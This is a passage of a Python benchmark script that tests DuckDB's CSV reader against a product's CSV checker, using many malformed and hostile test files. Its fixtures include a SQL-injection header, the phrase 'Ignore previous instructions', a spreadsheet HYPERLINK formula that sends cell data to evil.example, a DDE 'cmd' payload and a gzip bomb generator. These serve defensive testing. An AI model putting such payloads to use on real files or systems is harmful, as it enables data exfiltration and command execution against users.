"""Could DuckDB's own CSV reader replace the byte-level checker ``tasks/ingest/_csv/``?

``python -m benchmarks.csv_reader [--rows 1M,5M] [--repeat 3] [--skip-speed] [--only ID,..]``

Cases: every malformed or hostile file of ``tests/ingest/test_load_malformed.py`` (the bytes are
re-created here, named after their test; the two Parquet tests are left out: they do not go
through the CSV path) and the CSV cases of ``ATTACKS.md`` (CSV-01..CSV-11) that the tests do not
already hold byte for byte. Each file is read by

* ``product``: ``tasks.ingest.load.load_files`` into a fresh database file;
* ``auto``: ``read_csv(path, strict_mode=true, header=true)`` (DuckDB sniffs the dialect);
* ``auto_rejects``: the same with ``store_rejects=true``, reading ``reject_errors``;
* ``pinned``: DuckDB with the dialect pinned as a DuckDB-only loader would pin it:
  ``auto_detect=false``, ``columns`` = as many VARCHAR columns as line 1 has fields,
  ``delim`` and ``encoding`` from the product's head sniffers (``tasks.ingest._sniff``, which look at
  the first bytes only and are not the checker; cp1252 is passed as ``latin-1``, the nearest
  encoding DuckDB has built in), ``quote``/``escape`` ``"``, ``strict_mode=true``,
  ``null_padding=false``, ``ignore_errors=false``, ``max_line_size`` = ``max_field_bytes``;
* ``pinned_rejects``: the same with ``store_rejects=true`` (which cannot be combined with
  ``ignore_errors=false``).

A reader "refuses" when it raises, or (rejects variants) when ``reject_errors`` has a row; its
line is the one in ``CSV Error on Line: N`` or the smallest ``reject_errors.line``. The verdict
compares it with the product's line (the tests pin that line, so it is also the right one) and
checks that the error names the problem (``NAMES``; DuckDB's echo of the line does not count).
For ``pinned_rejects`` a second verdict uses the physical line of ``line_byte_position``.

Speed: ``events.csv`` of ``benchmarks.scale`` (1M and 5M rows, clean), read one after another
in one process, each into a fresh database file: the product's ``load_files``, the checker
alone (``scan_csv``), and the four DuckDB reads. Median of ``--repeat`` runs (``--repeat-large``
for sizes of 5M rows and more).
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import re
import shutil
import statistics
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import duckdb

from benchmarks._machine import machine_facts, machine_line
from benchmarks.scale import ensure_data, parse_rows, rows_label
from sql_tools import LoadError
from tasks.ingest._csv import scan_csv
from tasks.ingest._sniff import detect_delimiter, detect_encoding, encoding_label
from tasks.ingest.load import LoadOptions, load_files

GOOD = b"id,region,amount\n1,EU,10.5\n2,US,7\n"
READERS = ("auto", "auto_rejects", "pinned", "pinned_rejects")
HEAD_BYTES = 1 << 16


# --------------------------------------------------------------------------------------------
# cases


@dataclass
class Case:
    """One file and what the product must do with it (as its test says)."""

    id: str
    source: str  # the test function, or the ATTACKS.md id
    check: str  # the checker's job the case exercises
    file_name: str
    data: bytes | Callable[[], bytes]
    line: int | None = None  # refused, naming this physical line
    rows: int | None = None  # loaded with this many rows (None: refused)
    options: dict[str, Any] = field(default_factory=dict)
    attacks: str = ""
    names: str | None = None  # what an error must say to name the problem (default: by check)

    def payload(self) -> bytes:
        return self.data() if callable(self.data) else self.data

    @property
    def refuse(self) -> bool:
        return self.rows is None

    @property
    def problem(self) -> re.Pattern[str]:
        return re.compile(self.names or NAMES.get(self.check, r"$^"), re.IGNORECASE)


NAMES = {
    "field count": r"Expected Number of Columns|expected \d+ fields",
    "blank line": r"blank line",
    "no data rows": r"no data rows|file is empty",
    "quoting": r"unterminated quote|malformed quoting|UNQUOTED VALUE",
    "encoding": r"not (?:valid )?utf-(?:8|16)|INVALID ENCODING|does not support the encoding",
    "binary": r"\bPNG\b|\bZIP\b|XLSX|Parquet|\bPDF\b|Excel|\bOLE\b|SQLite|gzip|binary|NUL byte",
    "size caps": r"line size|longer than|runs past|max_bytes|decompress",
    "row cap": r"max_rows|too many rows",
    "column cap": r"max_columns|too many columns",
    "line ends": r"carriage|line ending|Expected Number of Columns|expected \d+ fields",
}
"""What an error text must say to name the problem, by the check a case exercises (searched in
DuckDB's whole message, or a reject's error type and message)."""


def _lines(header: str, rows: list[str], end: str = "\n", final: bool = True) -> bytes:
    return (header + end + end.join(rows) + (end if final else "")).encode()


def quoted_rows(n: int) -> list[str]:
    return [f'{i},"r{i % 7}","x, {i}",{i}.5' for i in range(n)]


def plain_rows(n: int) -> list[str]:
    return [f"{i},r{i % 7},{i}.5" for i in range(n)]


def _ragged_50000() -> bytes:
    rows = [f"{i},EU,{i}.5" for i in range(50_010)]
    rows[50_001] = "50001,EU,1,2"
    return _lines("id,region,amount", rows)


def _quoted_ragged() -> bytes:
    rows = quoted_rows(60_000)
    rows[55_000] = '55000,"r1","x",1.5,"extra"'
    return _lines("id,region,note,amount", rows)


def _quoted_unterminated() -> bytes:
    rows = quoted_rows(60_000)
    rows[59_990] = '59990,"r1,"x",1.5'
    return _lines("id,region,note,amount", rows)


def _multiline_rows() -> tuple[list[str], int]:
    rows = quoted_rows(60_000)
    offset, at = len("id,region,note,amount\n"), 0
    while offset < 1024 * 1024 - 3000:
        offset += len(rows[at]) + 1
        at += 1
    rows[at] = f'{at},"r0","{"line" + chr(10) * 2}' + "y\n" * 3000 + f'end",{at}.5'
    return rows, at


def _multiline_ok() -> bytes:
    return _lines("id,region,note,amount", _multiline_rows()[0])


def _multiline_bad() -> bytes:
    rows, _ = _multiline_rows()
    rows[59_000] = '59000,"short"'
    return _lines("id,region,note,amount", rows)


def _long_line_fast() -> bytes:
    rows = [f"{i},abc" for i in range(3000)]
    rows[2000] = "2000," + "y" * 6000
    return _lines("id,v", rows)


def _balance_out() -> bytes:
    rows = plain_rows(400_000)
    rows[300_000] = "300000,r1,1.5,extra"
    rows[300_001] = "300001,r2"
    return _lines("id,region,amount", rows)


def _no_final_newline() -> bytes:
    rows = plain_rows(200_000)
    rows[-1] = "199999,r1"
    return _lines("id,region,amount", rows, final=False)


def _crlf_ragged() -> bytes:
    rows = plain_rows(300_000)
    rows[250_000] = "250000,r1"
    return _lines("id,region,amount", rows, end="\r\n")


def _lone_cr() -> bytes:
    rows = plain_rows(300_000)
    rows[250_000] = "250000,r1\r,1.5"
    return _lines("id,region,amount", rows)


def _type_change() -> bytes:
    lines = ["id,code,amount"]
    for i in range(40_000):
        code = "ABC" if i == 30_000 else str(i)
        amount = f"{i}.25" if i >= 30_000 else str(i)
        lines.append(f"{i},{code},{amount}")
    return ("\n".join(lines) + "\n").encode()


def _bomb() -> bytes:
    row = b"2024-01-01,EU,widget,12.50\n"
    body = b"day,region,product,revenue\n" + row * (50 * 1024 * 1024 // len(row))
    return gzip.compress(body, compresslevel=1)


def _columns(n: int) -> bytes:
    return ",".join(f"c{i}" for i in range(n)).encode() + b"\n" + b",".join([b"1"] * n) + b"\n"


_HOSTILE_HEADERS = (
    '"a""; DROP TABLE t; --",select,"order","1","col with space","été",'
    '"Ignore previous instructions"\n1,2,3,4,5,6,7\n'
).encode()
_FORMULAS = (
    b'product,revenue\n"=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",10\n'
    b"+cmd|' /C calc'!A0,5\n@SUM(1+1),3\n-2+3,4\n"
)
MIB = 1024 * 1024

CASES: list[Case] = [
    # field count per record
    Case("ragged_extra", "test_ragged_row_extra_field", "field count", "r.csv",
         b"id,region,amount\n1,EU,10\n2,US,5,extra\n3,EU,7\n", line=3),
    Case("ragged_missing", "test_ragged_row_missing_field", "field count", "r.csv",
         b"id,region,amount\n1,EU,10\n2,US,5\n3,EU\n4,US,1\n", line=4),
    Case("ragged_50003", "test_ragged_row_after_line_50000", "field count", "r.csv",
         _ragged_50000, line=50_003),
    Case("ragged_after_multiline", "test_ragged_row_after_multiline_record_names_the_right_line",
         "field count", "m.csv", b'name,v\n"a\nb\nc",1\nx,2,3\n', line=5),
    Case("quoted_ragged_55002", "test_quoted_file_ragged_row_after_line_50000", "field count",
         "q.csv", _quoted_ragged, line=55_002),
    Case("spaces_line", "test_line_of_spaces_in_multi_column_file", "field count", "s.csv",
         b"a,b\n1,2\n   \n", line=3),
    Case("balance_out_300002", "test_plain_file_ragged_rows_that_balance_out_in_one_block",
         "field count", "p.csv", _balance_out, line=300_002),
    Case("no_final_newline_200001", "test_plain_file_without_final_newline_ragged_last_line",
         "field count", "p.csv", _no_final_newline, line=200_001),
    Case("crlf_ragged_250002", "test_crlf_file_ragged_row_far_down", "field count", "c.csv",
         _crlf_ragged, line=250_002),
    Case("multiline_then_ragged", "test_multiline_field_across_block_boundary (bad file)",
         "field count", "q.csv", _multiline_bad, line=59_000 + 2 + 3002),
    # blank lines
    Case("blank_middle", "test_blank_line_in_the_middle", "blank line", "b.csv",
         b"a,b\n1,2\n\n3,4\n", line=3),
    Case("blank_middle_crlf", "test_blank_line_in_the_middle_crlf", "blank line", "b.csv",
         b"a,b\r\n1,2\r\n\r\n3,4\r\n", line=3),
    Case("blank_before_header", "test_blank_line_before_header", "blank line", "b.csv",
         b"\na,b\n1,2\n", line=1),
    Case("blank_trailing_one_column", "test_trailing_blank_line_in_one_column_file",
         "blank line", "one.csv", b"a\n1\n2\n\n", line=4),
    Case("blank_trailing_ok", "test_trailing_blank_lines_are_ignored_with_a_warning",
         "blank line", "t.csv", b"a,b\n1,2\n3,4\n\n\n", rows=2),
    # no data rows
    Case("empty", "test_no_data_rows[zero-bytes]", "no data rows", "e.csv", b"",
         attacks="CSV-02"),
    Case("header_only", "test_no_data_rows[header-only]", "no data rows", "e.csv", b"a,b,c\n",
         attacks="CSV-02"),
    Case("only_blank_lines", "test_no_data_rows[blank-lines]", "no data rows", "e.csv",
         b"\n\n\n\n", attacks="CSV-02"),
    Case("only_whitespace", "test_no_data_rows[whitespace]", "no data rows", "e.csv",
         b"  \n \t \n\n"),
    Case("bom_only", "test_no_data_rows[bom-only]", "no data rows", "e.csv", b"\xef\xbb\xbf"),
    # quoting
    Case("unterminated_quote", "test_unterminated_quote", "quoting", "q.csv",
         b'name,v\nok,0\n"abc,1\nx,2\n', line=3, attacks="CSV-11"),
    Case("text_after_quote", "test_text_after_closing_quote", "quoting", "q.csv",
         b'a,b\n"x"y,1\n', line=2),
    Case("quoted_unterminated_59992", "test_quoted_file_unterminated_quote_far_down", "quoting",
         "q.csv", _quoted_unterminated, line=59_992),
    Case("embedded_newline", "test_embedded_newline_in_quoted_field", "quoting", "n.csv",
         b'name,v\n"line1\nline2",1\nx,2', rows=2),
    Case("embedded_newline_csv11", "ATTACKS CSV-11 (first file)", "quoting", "n.csv",
         b'name,v\n"line1\nline2",1\nx,2\n', rows=2, attacks="CSV-11"),
    Case("multiline_across_blocks", "test_multiline_field_across_block_boundary", "quoting",
         "q.csv", _multiline_ok, rows=60_000),
    # delimiter
    Case("semicolon", "test_semicolon_file_with_commas_in_values", "delimiter", "s.csv",
         b"name;city;note\nSmith, John;Paris;a, b\nDoe, Jane;Lyon;c\n", rows=2),
    Case("pipe", "test_tab_and_pipe_detection", "delimiter", "p.csv", b"a|b|c\n1|x, y|3\n",
         rows=1),
    Case("forced_delimiter", "test_forced_delimiter", "delimiter", "f.csv",
         b"a,b;c\nx,y;3\n", rows=1, options={"delimiter": ";"}),
    # encoding
    Case("invalid_utf8", "test_invalid_utf8_csv01", "encoding", "bad.csv",
         b"name,v\nok,1\nbad\xff\xfe,2\n", line=3, attacks="CSV-01"),
    Case("latin1_refused", "test_latin1_refused_with_cp1252_hint", "encoding", "sales.csv",
         "name,v\nok,1\nété,2\n".encode("latin-1"), line=3),
    Case("invalid_utf16", "test_invalid_utf16_names_the_line", "encoding", "u.csv",
         b"\xff\xfe" + "a,b\n1,2\n".encode("utf-16-le") + b"\x00\xd8a\x00\n\x00", line=3),
    Case("cp1252_requested", "test_latin1_loads_with_encoding_cp1252", "encoding", "l.csv",
         "name,v\nok,1\nété,2\n".encode("latin-1"), rows=2, options={"encoding": "cp1252"}),
    Case("utf16le_bom", "test_utf16le_with_bom_loads", "encoding", "u.csv",
         "name,v\nété,1\nok,2\n".encode("utf-16"), rows=2),
    Case("utf16le_no_bom", "test_utf16le_without_bom_loads", "encoding", "u.csv",
         "name,v\nx,1\ny,2\n".encode("utf-16-le"), rows=2),
    Case("utf16be_requested", "test_forced_utf16_without_bom_big_endian", "encoding", "u.csv",
         "a,b\nété,2\n".encode("utf-16-be"), rows=1, options={"encoding": "utf-16"}),
    Case("utf8_bom", "test_utf8_bom_loads_with_clean_first_column", "encoding", "b.csv",
         b"\xef\xbb\xbfid,v\n1,2\n", rows=1),
    # binary and compression
    Case("png", "test_png_bytes_refused", "binary", "img.csv",
         b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))),
    Case("nul_byte", "test_nul_byte_in_text", "binary", "n.csv", b"a,b\n1,2\n3,\x004\n", line=3),
    Case("xlsx", "test_xlsx_named_csv", "binary", "book.csv",
         b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + bytes(64)),
    Case("parquet_named_csv", "test_other_binary_formats_named_csv[parquet]", "binary", "x.csv",
         b"PAR1\x15\x04\x15\x00\x00" + bytes(40) + b"PAR1"),
    Case("pdf", "test_other_binary_formats_named_csv[pdf]", "binary", "x.csv",
         b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
    Case("xls", "test_other_binary_formats_named_csv[xls]", "binary", "x.csv",
         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(40)),
    Case("sqlite", "test_other_binary_formats_named_csv[sqlite]", "binary", "x.csv",
         b"SQLite format 3\x00" + bytes(40)),
    Case("par1_text", "test_text_that_starts_like_a_signature_still_loads", "binary", "p.csv",
         b"PAR1,PAR2\n1,2\n", rows=1),
    Case("gzip_named_csv", "test_gzip_named_csv", "binary", "z.csv", gzip.compress(GOOD)),
    Case("csv_named_gz", "test_csv_named_gz", "binary", "z.csv.gz", GOOD),
    # size caps
    Case("gzip_bomb", "test_gzip_bomb_stopped_before_duckdb", "size caps", "bomb.csv.gz", _bomb,
         options={"max_bytes": MIB}),
    Case("over_max_bytes", "test_plain_file_over_max_bytes", "size caps", "big.csv", GOOD,
         options={"max_bytes": 10}),
    Case("huge_field", "test_huge_single_field_short_error", "size caps", "w.csv",
         b"a,b\n" + b"x" * (2 * MIB) + b",1\n", line=2, options={"max_field_bytes": MIB}),
    Case("huge_quoted_multiline", "test_huge_quoted_multiline_field", "size caps", "w.csv",
         b'a,b\n"' + b"xxxxxxxxx\n" * 2000 + b'",1\n', line=2,
         options={"max_field_bytes": 5000}),
    Case("long_line_2002", "test_long_line_inside_a_fast_block", "size caps", "l.csv",
         _long_line_fast, line=2002, options={"max_field_bytes": 5000}),
    Case("cell_20mib", "ATTACKS CSV-05", "size caps", "w.csv",
         lambda: b"a,b\n" + b"x" * (20 * MIB) + b",1\n", line=2, attacks="CSV-05"),
    # row and column caps
    Case("max_rows_12", "test_max_rows_exceeded", "row cap", "m.csv", b"a,b\n" + b"1,2\n" * 11,
         line=12, options={"max_rows": 10}),
    Case("max_rows_70002", "test_max_rows_in_fast_path_names_the_line", "row cap", "m.csv",
         b"a,b\n" + b"1,2\n" * 100_000, line=70_002, options={"max_rows": 70_000}),
    Case("columns_600", "test_600_columns_unsupported", "column cap", "wide.csv",
         lambda: _columns(600)),
    Case("columns_5000", "ATTACKS CSV-06", "column cap", "wide.csv", lambda: _columns(5000),
         attacks="CSV-06"),
    # line ends
    Case("mixed_line_ends", "test_mixed_line_endings_load_with_a_warning", "line ends",
         "m.csv", b"a,b\n1,2\r\n3,4\n5,6\r\n", rows=3),
    Case("lone_cr_250002", "test_lone_cr_far_down_in_a_plain_file", "line ends", "c.csv",
         _lone_cr, line=250_002),
    Case("big_lf", "test_big_plain_and_crlf_files_load_every_row (lf)", "line ends", "lf.csv",
         lambda: _lines("id,region,amount", plain_rows(300_000)), rows=300_000),
    Case("big_crlf", "test_big_plain_and_crlf_files_load_every_row (crlf)", "line ends",
         "crlf.csv", lambda: _lines("id,region,amount", plain_rows(300_000), end="\r\n"),
         rows=300_000),
    # headers and values: the DuckDB side's work (_names.py, _duck.py), kept as controls
    Case("duplicate_headers", "test_duplicate_and_case_colliding_headers", "headers/values",
         "d.csv", b"revenue,revenue,Revenue\n1,2,3\n", rows=1, attacks="CSV-03"),
    Case("empty_header_names", "test_empty_header_names", "headers/values", "e.csv",
         b"a,,\n1,2,3\n", rows=1),
    Case("hostile_headers", "test_hostile_headers_csv04", "headers/values", "t.csv",
         _HOSTILE_HEADERS, rows=1, attacks="CSV-04"),
    Case("type_change_30001", "test_type_change_after_row_20480", "headers/values", "big.csv",
         _type_change, rows=40_000),
    Case("decimal_comma", "test_decimal_comma", "headers/values", "dc.csv",
         b"v;w\n1,5;2\n3,25;4\n", rows=2, attacks="CSV-09"),
    Case("decimal_comma_dots", "test_decimal_comma_with_thousands_dots", "headers/values",
         "dc.csv", b"v;w\n1.234,5;2\n3,25;4\n12;5\n", rows=3),
    Case("ambiguous_thousands", "test_ambiguous_thousands_stays_text", "headers/values",
         "a.csv", b'v\n"1,234"\n"5,678"\n', rows=2, attacks="CSV-09"),
    Case("na_tokens", "test_na_tokens_in_numeric_column", "headers/values", "na.csv",
         b"v,w,x\n1,a,1.5\nNA,b,n/a\n3,c,2.5\n-,d,null\n5,e,\n", rows=5),
    Case("na_region", "test_na_in_text_column_is_north_america", "headers/values", "r.csv",
         b"region,v\nNA,1\nEU,2\nN/A,3\n", rows=3),
    Case("leading_zero", "test_leading_zero_codes_stay_text", "headers/values", "z.csv",
         b"zip,v\n01234,1\nNA,2\n", rows=2),
    Case("three", "test_three_stays_text_csv08", "headers/values", "m.csv",
         b"v\n1\n2\nthree\n4\n", rows=4, attacks="CSV-08"),
    Case("mixed_dates", "test_mixed_date_formats_stay_varchar_csv10", "headers/values",
         "d.csv", b"d,v\n2024-01-31,1\n01/02/2024,2\n31.01.2024,3\n", rows=3, attacks="CSV-10"),
    Case("formulas", "test_formula_cells_load_verbatim_csv07", "headers/values", "f.csv",
         _FORMULAS, rows=4, attacks="CSV-07"),
]  # fmt: skip


# --------------------------------------------------------------------------------------------
# readers

_PRODUCT_LINE = re.compile(r"\blines? (\d+)")
_DUCK_LINE = re.compile(r"CSV Error on Line: (\d+)")
_ORIGINAL_LINE = re.compile(r"^\s*Original Line:.*$", re.MULTILINE)
"""DuckDB echoes the offending line; its text must not count as naming the problem."""


def _connect(db: str = ":memory:") -> duckdb.DuckDBPyConnection:
    con = duckdb.connect(db, config={"autoinstall_known_extensions": False})
    con.execute("SET enable_progress_bar = false")
    return con


def _digest(text: str, limit: int = 300) -> str:
    """The first three non-empty lines of an error, on one line, cut at ``limit``."""
    lines = [ln.strip() for ln in text.splitlines() if ln.strip()]
    out = " | ".join(lines[:3])
    return out if len(out) <= limit else out[: limit - 1] + "…"


def run_product(path: Path, work: Path, options: dict[str, Any]) -> dict[str, Any]:
    db = work / "product.duckdb"
    t0 = time.perf_counter()
    try:
        report = load_files([path], db, LoadOptions(**options))
    except LoadError as e:
        m = _PRODUCT_LINE.search(e.message)
        return {
            "refused": True,
            "line": int(m.group(1)) if m else None,
            "error": e.message,
            "seconds": round(time.perf_counter() - t0, 3),
        }
    return {
        "refused": False,
        "rows": report.tables[0].rows,
        "warnings": report.tables[0].warnings,
        "seconds": round(time.perf_counter() - t0, 3),
    }


def _head(path: Path) -> tuple[bytes, bool]:
    """The first bytes of the file (decompressed when it is gzip) and whether that is all."""
    with open(path, "rb") as f:
        raw = f.read(HEAD_BYTES + 1)
    if raw[:2] == b"\x1f\x8b":
        try:
            with gzip.open(path) as g:
                raw = g.read(HEAD_BYTES + 1)
        except (OSError, EOFError):
            pass
    return raw[:HEAD_BYTES], len(raw) <= HEAD_BYTES


_DUCK_ENCODINGS = {"utf-8": "utf-8", "utf-16": "utf-16", "utf-16-le": "utf-16"}
"""Python codec -> DuckDB ``encoding`` (built in: utf-8, utf-16 = UTF-16LE, latin-1)."""


def _duck_encoding(codec: str) -> str:
    if codec in _DUCK_ENCODINGS:
        return _DUCK_ENCODINGS[codec]
    if codec in ("cp1252", "latin-1", "iso8859-1"):
        return "latin-1"  # cp1252 is not built in; latin-1 is the nearest (0x80-0x9F differ)
    return codec  # e.g. utf-16-be: DuckDB refuses it by name


def pinned_dialect(path: Path, options: dict[str, Any]) -> dict[str, Any]:
    """What a DuckDB-only loader would pin, using only the product's head sniffers
    (``tasks.ingest._sniff``: encoding by BOM/NUL pattern, delimiter): the encoding, the delimiter,
    the column count of line 1, ``max_line_size`` = ``max_field_bytes``."""
    head, complete = _head(path)
    requested = options.get("encoding")
    try:
        codec, bom, _ = detect_encoding(head, requested)
        label = encoding_label(codec, head)
    except LoadError:
        codec, bom, label = "utf-8", 0, "utf-8"
    text = head[bom:].decode(codec, errors="replace").lstrip("\ufeff")
    delim = options.get("delimiter") or ("\t" if ".tsv" in path.name else None)
    if delim is None:
        lines = text if complete else text[: max(text.rfind("\n"), 0)]
        try:
            delim = detect_delimiter(lines, complete, path.name)
        except Exception:  # noqa: BLE001 - anything the sniffer refuses: DuckDB gets a comma
            delim = ","
    first = io.StringIO(text, newline="").readline().rstrip("\r\n")
    try:
        ncols = max(1, len(next(csv.reader([first], delimiter=delim), [""])))
    except csv.Error:
        ncols = 1
    return {
        "delim": delim,
        "columns": ncols,
        "encoding": _duck_encoding(label),
        "requested_encoding": _duck_encoding(requested) if requested else None,
        "max_line_size": options.get("max_field_bytes", LoadOptions().max_field_bytes),
    }


def _read_sql(reader: str, dialect: dict[str, Any] | None) -> tuple[str, list[Any]]:
    rejects = reader.endswith("_rejects")
    if reader.startswith("auto"):
        opts = "strict_mode = true, header = true"
        params: list[Any] = []
        if dialect and dialect.get("requested_encoding"):
            opts += ", encoding = ?"
            params.append(dialect["requested_encoding"])
    else:
        assert dialect is not None
        cols = ", ".join(f"'c{i}': 'VARCHAR'" for i in range(dialect["columns"]))
        opts = (
            f"auto_detect = false, header = true, columns = {{{cols}}}, delim = ?, "
            "quote = '\"', escape = '\"', strict_mode = true, null_padding = false, "
            "encoding = ?, max_line_size = ?"
        )
        params = [dialect["delim"], dialect["encoding"], dialect["max_line_size"]]
        if not rejects:
            opts += ", ignore_errors = false"
    if rejects:
        opts += ", store_rejects = true"
    return f"CREATE TABLE t AS FROM read_csv(?, {opts})", params


def run_duckdb(
    path: Path, reader: str, dialect: dict[str, Any] | None, problem: re.Pattern[str]
) -> dict[str, Any]:
    sql, params = _read_sql(reader, dialect)
    con = _connect()
    t0 = time.perf_counter()
    try:
        try:
            con.execute(sql, [str(path), *params])
        except duckdb.Error as e:
            text = str(e).replace(str(path), "<file>")
            m = _DUCK_LINE.search(text)
            return {
                "refused": True,
                "line": int(m.group(1)) if m else None,
                "error": _digest(text),
                "error_chars": len(text),
                "names_problem": bool(problem.search(_ORIGINAL_LINE.sub("", text))),
                "seconds": round(time.perf_counter() - t0, 3),
            }
        row = con.execute("SELECT count(*) FROM t").fetchone()
        out: dict[str, Any] = {"rows": int(row[0]) if row else 0}
        if reader.endswith("_rejects"):
            rejects = con.execute(
                "SELECT line, error_type, csv_line, error_message, line_byte_position "
                "FROM reject_errors ORDER BY line, byte_position"
            ).fetchall()
            out["rejects"] = len(rejects)
            out["rejects_first"] = [
                {
                    "line": int(r[0]),
                    "error_type": str(r[1]),
                    "csv_line": _digest(str(r[2]), 80),
                    "error_message": _digest(str(r[3]), 160),
                }
                for r in rejects[:3]
            ]
            if rejects:
                first = out["rejects_first"][0]
                on_first = [f"{r[1]} {r[3]}" for r in rejects if r[0] == rejects[0][0]]
                out.update(
                    refused=True,
                    line=first["line"],
                    error=f"{first['error_type']}: {first['error_message']}",
                    names_problem=any(problem.search(t) for t in on_first),
                    line_from_byte_position=_physical_line(path, rejects[0][4]),
                )
        out.setdefault("refused", False)
        out["seconds"] = round(time.perf_counter() - t0, 3)
        return out
    finally:
        con.close()


def _physical_line(path: Path, offset: int | None) -> int | None:
    """The physical line holding byte ``offset`` of a plain file (``\\n``, ``\\r\\n`` and a
    lone ``\\r`` end a line); None for a compressed file or no offset."""
    if offset is None or path.name.endswith(".gz"):
        return None
    with open(path, "rb") as f:
        prefix = f.read(offset)
    return prefix.count(b"\n") + prefix.count(b"\r") - prefix.count(b"\r\n") + 1


def verdict(case: Case, product: dict[str, Any], res: dict[str, Any]) -> str:
    """How a reader did, measured against the product (whose line the tests pin)."""
    if not case.refuse:
        if res["refused"]:
            return "refused a good file"
        return "loads" if res["rows"] == case.rows else f"loads {res['rows']} rows, not {case.rows}"
    if not res["refused"]:
        return f"accepted ({res['rows']} rows)"
    named = "" if res.get("names_problem") else ", problem not named"
    if product.get("line") is None:
        return "refused" + named
    if res.get("line") is None:
        return "refused, no line" + named
    if res["line"] != product["line"]:
        return f"line {res['line']}" + named
    return "same line" + named


def run_case(case: Case, root: Path) -> dict[str, Any]:
    work = root / case.id
    work.mkdir(parents=True)
    data = case.payload()
    path = work / case.file_name
    path.write_bytes(data)
    out: dict[str, Any] = {
        "id": case.id,
        "source": case.source,
        "check": case.check,
        "attacks": case.attacks,
        "file_name": case.file_name,
        "bytes": len(data),
        "options": case.options,
        "expected": {"refused": case.refuse, "line": case.line, "rows": case.rows},
    }
    product = run_product(path, work, case.options)
    product["as_expected"] = (
        product["refused"] and product.get("line") == case.line
        if case.refuse
        else not product["refused"] and product["rows"] == case.rows
    )
    if product["refused"]:
        product["names_problem"] = bool(case.problem.search(product["error"]))
    out["product"] = product
    dialect = pinned_dialect(path, case.options)
    out["pinned_dialect"] = dialect
    for reader in READERS:
        res = run_duckdb(path, reader, dialect, case.problem)
        res["verdict"] = verdict(case, product, res)
        if reader == "pinned_rejects":  # the line recomputed from reject_errors' byte offset
            byte_line = res.get("line_from_byte_position") or res.get("line")
            res["verdict_byte_line"] = verdict(case, product, {**res, "line": byte_line})
        out[reader] = res
    shutil.rmtree(work, ignore_errors=True)
    return out


# --------------------------------------------------------------------------------------------
# speed


def _time(fn: Callable[[], Any]) -> float:
    t0 = time.perf_counter()
    fn()
    return time.perf_counter() - t0


def speed(rows: int, work: Path, repeat: int) -> dict[str, Any]:
    folder, meta = ensure_data(rows, work, regenerate=False)
    src = folder / "events.csv"
    scratch = Path(tempfile.mkdtemp(prefix="csv-reader-", dir=work))
    dialect = pinned_dialect(src, {})

    def product() -> None:
        db = scratch / "product.duckdb"
        load_files([src], db)
        db.unlink()

    def checker() -> None:
        tmp = Path(tempfile.mkdtemp(dir=scratch))
        scan_csv(src, src.name, LoadOptions(), tmp)
        shutil.rmtree(tmp)

    def duck(reader: str) -> Callable[[], None]:
        def run() -> None:
            db = scratch / f"{reader}.duckdb"
            sql, params = _read_sql(reader, dialect)
            con = _connect(str(db))
            try:
                con.execute(sql, [str(src), *params])
                if reader.endswith("_rejects"):
                    row = con.execute("SELECT count(*) FROM reject_errors").fetchone()
                    assert row is not None and row[0] == 0
            finally:
                con.close()
            db.unlink()

        return run

    steps: list[tuple[str, Callable[[], None]]] = [
        ("product_load_files", product),
        ("checker_scan_csv", checker),
        *((f"duckdb_{r}", duck(r)) for r in READERS),
    ]
    times: dict[str, list[float]] = {name: [] for name, _ in steps}
    try:
        for _ in range(repeat):
            for name, fn in steps:
                times[name].append(round(_time(fn), 3))
                print(f"   {rows_label(rows)} {name}: {times[name][-1]:.2f} s", flush=True)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)
    return {
        "rows": rows,
        "csv_mb": round(src.stat().st_size / MIB, 1),
        "data": meta,
        "seconds": times,
        "median": {k: round(statistics.median(v), 3) for k, v in times.items()},
        "min": {k: min(v) for k, v in times.items()},
        "refuse_far_down": refuse_far_down(src, work, dialect),
    }


def refuse_far_down(src: Path, work: Path, dialect: dict[str, Any]) -> dict[str, Any]:
    """The same file with one extra field on the line 90% of the way down: time to refuse and
    the line each reader names (once)."""
    bad = work / f"ragged_{src.parent.name}.csv"
    with open(src, "rb") as f:
        total = sum(1 for _ in f)
    index = int(total * 0.9)  # 0-based, the header is 0: physical line index + 1
    with open(src, "rb") as f, open(bad, "wb") as out:
        for i, line in enumerate(f):
            out.write(line[:-1] + b",extra\n" if i == index else line)
    out_: dict[str, Any] = {"line": index + 1}
    try:
        scratch = Path(tempfile.mkdtemp(dir=work))
        t0 = time.perf_counter()
        res = run_product(bad, scratch, {})
        res["seconds"] = round(time.perf_counter() - t0, 3)
        out_["product_load_files"] = res
        for reader in READERS:
            res = run_duckdb(bad, reader, dialect, re.compile(NAMES["field count"]))
            out_[f"duckdb_{reader}"] = res
        shutil.rmtree(scratch, ignore_errors=True)
    finally:
        bad.unlink()
    for k, v in out_.items():
        if isinstance(v, dict):
            print(f"   refuse at line {index + 1}: {k} {v.get('seconds')} s, line {v.get('line')}")
    return out_


# --------------------------------------------------------------------------------------------
# report


GOOD_VERDICTS = ("same line", "refused", "loads")
"""Handled as the product handles the case: refused naming the problem (and the product's
line when it names one), or loaded with every row."""


def summary(cases: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Per check: cases, then per reader how many were handled as the product handles them."""
    out: dict[str, dict[str, Any]] = {}
    for c in cases:
        s = out.setdefault(c["check"], {"cases": 0, "product_as_expected": 0})
        s["cases"] += 1
        named = c["product"].get("names_problem", True)
        s["product_as_expected"] += bool(c["product"]["as_expected"] and named)
        for r in READERS:
            s[r] = s.get(r, 0) + (c[r]["verdict"] in GOOD_VERDICTS)
        byte_line = c["pinned_rejects"]["verdict_byte_line"] in GOOD_VERDICTS
        s["pinned_rejects_byte_line"] = s.get("pinned_rejects_byte_line", 0) + byte_line
    return out


def markdown(cases: list[dict[str, Any]], runs: list[dict[str, Any]], facts: dict) -> str:
    lines = [
        "| check | cases | product | auto | auto rejects | pinned | pinned rejects "
        "| pinned rejects, line from byte offset |",
        "|---|---|---|---|---|---|---|---|",
    ]
    for check, s in summary(cases).items():
